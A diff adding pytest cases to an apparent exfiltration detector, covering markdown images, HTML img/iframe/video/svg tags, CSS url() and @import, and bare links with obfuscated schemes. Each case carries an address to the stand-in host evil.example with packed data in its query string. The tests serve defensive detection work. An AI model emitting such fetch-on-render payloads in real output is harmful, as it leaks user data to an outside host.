@@ -38,6 +38,36 @@ def test_text_packed_into_an_address_is_found(inspector, address) -> None:
     assert found(inspector, f'<img alt="" width=1 src="{address}">')["exfil.image"] == (address, 70)
 
 
+@pytest.mark.parametrize("scheme", ["HTTPS://", "Http://", "https:\\\\", "https:/", "//", "\\/"])
+@pytest.mark.parametrize(
+    "frame",
+    [
+        "![x]({})",
+        "![a [b] c]({})",
+        "![x](\n  <{}>)",
+        "![a][1]\n\n[1]: {}",
+        "[1]:\n  <{}>",
+        "<IMG\nwidth=1 Src = '{}'>",
+        '<img src="a.png" srcset="a.png 1x, {} 2x">',
+        '<iframe src="{}"></iframe>',
+        '<video poster="{}">',
+        "<svg><image xlink:href='{}'/></svg>",
+        '<div style="background: url({})">',
+        "@import URL( '{}' );",
+    ],
+)
+def test_whatever_is_fetched_when_it_is_shown_counts_as_an_image(inspector, scheme, frame) -> None:
+    address = f"{scheme}evil.example/log?d={PACKED}"
+    assert found(inspector, frame.format(address))["exfil.image"] == (address, 70)
+
+
+@pytest.mark.parametrize("scheme", ["HTTPS://", "https:\\\\", "https:/"])
+def test_a_link_may_be_written_as_browsers_take_it(inspector, scheme) -> None:
+    address = f"{scheme}evil.example/log?d={PACKED}"
+    assert found(inspector, f"see {address} now") == {"exfil.link": (address, 60)}
+    assert found(inspector, f"see [here](//evil.example/{SAFE})") == {"exfil.link": (f"//evil.example/{SAFE}", 60)}
+
+
 def test_an_image_may_hold_no_sentence(inspector) -> None:
     address = f"//evil.example/?q={PLAIN}"
     assert found(inspector, f"![]({address})") == {"exfil.image": (address, 70)}
